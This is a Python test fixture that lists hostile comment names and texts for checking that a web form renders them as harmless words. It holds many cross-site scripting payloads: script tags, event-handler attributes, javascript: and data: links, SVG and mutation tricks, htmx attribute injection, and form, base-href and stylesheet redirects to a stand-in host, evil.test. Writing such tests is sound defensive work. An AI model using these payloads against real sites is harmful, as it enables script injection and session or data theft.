"""What attackers write: names and texts that must end as harmless words, wherever they are shown.

``HOSTILE`` holds (name, text) pairs that the form takes; each tries another way out of the page.
None may run, load, style, hide or move anything. A text says ``PWNED`` where it would run code.
"""

CODE = "window.PWNED=1"
LINKS = (
    "javascript:window.PWNED=1",
    "JaVaScRiPt:window.PWNED=1",
    "java&#115;cript:window.PWNED=1",
    "java\tscript:window.PWNED=1",
    "&#x01;javascript:window.PWNED=1",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuUFdORUQ9MTwvc2NyaXB0Pg==",
    "//evil.test/x",
    "/articles",
    "file:///etc/passwd",
)


def _link(address: str) -> str:
    return f"[press me]({address}) [me too](<{address}>) <{address}> <a href='{address}'>and me</a>"


HOSTILE: list[tuple[str, str]] = [
    (
        "<script>window.PWNED=1</script>",
        f"<script>{CODE}</script><ScRiPt src=//evil.test/x.js></ScRiPt><script\n>{CODE}</script\t>",
    ),
    (
        '"><img src=x onerror=window.PWNED=1>',
        (
            f'<img src=x onerror="{CODE}"><b onmouseover={CODE} onfocus={CODE} tabindex=0>bold</b>'
            f"<body onload={CODE}><details open ontoggle={CODE}>x</details>"
        ),
    ),
    ("Links", "\n\n".join(_link(address) for address in LINKS)),
    (
        "<svg onload=window.PWNED=1>",
        (
            f"<svg><script>{CODE}</script><a xlink:href='javascript:{CODE}'><text>x</text></a>"
            f"<animate onbegin={CODE} attributeName=x dur=1s></svg>"
            f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
            f"onerror={CODE}&gt;'></table></math>"
        ),
    ),
    (
        "Unclosed <b <i",
        f"Before <!-- not closed <div <a href='http://x.test/?<script>{CODE}</script> <p title=\"",
    ),
    (
        "htmx <div hx-get=/ hx-trigger=load>",
        (
            "<div hx-get='/' hx-trigger='load' hx-target='body'>load</div>"
            f"<p data-hx-post='/articles/x/comments' hx-on:click='{CODE}' hx-vals='js:{CODE}'>x</p>"
        ),
    ),
    (
        "<hx-partial hx-target=body>gone",
        (
            "<hx-partial hx-target='#comments' hx-swap='outerHTML'>taken</hx-partial>"
            "<template hx type='partial' hx-target='body'>taken</template>"
            "<div id='comments-title' hx-swap-oob='true'>taken</div><p hx-preserve id='live'>x</p>"
        ),
    ),
    ("Quoter", "> " * 1000 + "deep\n\n" + "- " * 400 + "list\n\n" + "*" * 400 + "[" * 400),
    (
        "Admin\u202e\u2066 rotaredoM \u0336" + "Z" + "\u0300\u0301\u0302\u0489" * 15,
        "\u202ethis runs the other way\u2066 and H" + "\u0300\u0316\u0489" * 300 + "e comes",
    ),
    (
        "</bdi></textarea><script>window.PWNED=1</script>",
        f"</textarea><script>{CODE}</script></div></article></main></body></html><h1>Hacked</h1>",
    ),
    (
        "Style",
        (
            "<style>*{display:none}@import '//evil.test/x.css'</style><p style='position:fixed;"
            "inset:0;background:url(//evil.test/x)'>over</p><link rel=stylesheet href=//x.test>"
        ),
    ),
    ("W" * 80, "A" * 1500 + "\u00ad" * 200 + "\ufdfd" * 200 + " https://x.test/" + "y" * 500),
    (
        "Frames",
        (
            f"<iframe srcdoc='<script>parent.{CODE}</script>'></iframe><iframe "
            f"src=javascript:{CODE}></iframe>"
            "<object data='//evil.test/x'></object><embed src='//evil.test/x'>"
        ),
    ),
    (
        "Moved",
        (
            "<base href='//evil.test/'><meta http-equiv=refresh content='0;url=//evil.test/'>"
            f"<meta http-equiv='Set-Cookie' content='x=1'><link rel=preload href=//evil.test>"
            f"<script type=speculationrules>{{}}</script><noscript><p title='</noscript>{CODE}'>"
        ),
    ),
    (
        "Forms",
        (
            f"<form action='//evil.test/' id=form-end><input name=text autofocus onfocus={CODE}>"
            f"<button formaction='javascript:{CODE}'>Post comment</button></form>"
            "<input form=form-end name=parent value=1><isindex><dialog open>x</dialog>"
        ),
    ),
    (
        "{{ 7*7 }} ${7*7} %(name)s %s {0}",
        (
            "{{ config }} {% raw %} ${7*7} <%= 7*7 %> #{7*7} %(count)s %d {0.__class__} "
            "\\u003cb\\u003e &lt;script&gt; &amp;lt;b&amp;gt; ![x](//x.test/p) \x00\x0b\x7f\ufffe"
        ),
    ),
]
